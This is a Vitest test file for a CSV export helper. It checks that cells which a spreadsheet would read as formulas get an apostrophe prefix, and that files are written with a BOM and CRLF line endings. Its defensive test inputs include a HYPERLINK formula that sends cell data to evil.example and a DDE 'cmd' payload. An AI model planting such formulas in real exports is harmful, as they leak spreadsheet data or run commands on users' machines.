import { describe, expect, it } from "vitest";
import { csvCell, csvFile } from "./csv.js";

describe("CSV cells", () => {
  it("prefix text that a spreadsheet would read as a formula with an apostrophe", () => {
    expect(csvCell('=HYPERLINK("http://evil.example/?d="&A2,"詳細")')).toBe(
      `"'=HYPERLINK(""http://evil.example/?d=""&A2,""詳細"")"`,
    );
    expect(csvCell("+cmd|' /C calc'!A0")).toBe("'+cmd|' /C calc'!A0");
    expect(csvCell("-2+3")).toBe("'-2+3");
    expect(csvCell("@SUM(A1)")).toBe("'@SUM(A1)");
    expect(csvCell("\t=1")).toBe("'\t=1");
    expect(csvCell("\r=1")).toBe(`"'\r=1"`);
  });

  it("keep numbers numeric, negative ones included, and ordinary text as it is", () => {
    expect(csvCell(-500)).toBe("-500");
    expect(csvCell(1080)).toBe("1080");
    expect(csvCell("唐揚げ 太郎")).toBe("唐揚げ 太郎");
    expect(csvCell("a=b")).toBe("a=b");
    expect(csvCell(null)).toBe("");
  });

  it("write a file with a BOM and CRLF after every row", () => {
    expect(csvFile(["a", "b"], [["x", -1]])).toBe("\uFEFFa,b\r\nx,-1\r\n");
  });
});
